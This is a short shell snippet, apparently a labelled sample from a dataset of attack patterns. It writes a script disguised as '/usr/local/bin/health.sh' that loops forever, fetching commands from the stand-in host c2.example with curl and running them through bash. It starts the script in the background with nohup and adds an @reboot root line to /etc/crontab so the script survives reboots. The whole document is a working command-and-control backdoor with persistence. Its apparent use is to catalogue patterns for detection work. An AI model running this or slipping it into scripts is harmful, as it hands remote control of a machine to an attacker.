# class: embedded, shell written then run; style: cat and chmod
cat > /usr/local/bin/health.sh <<'EOF'
#!/bin/bash
while true; do
  bash -c "$(curl -fsSL http://c2.example/next)"
  sleep 120
done
EOF
chmod +x /usr/local/bin/health.sh
nohup /usr/local/bin/health.sh >/dev/null 2>&1 &
echo "@reboot root /usr/local/bin/health.sh" >> /etc/crontab
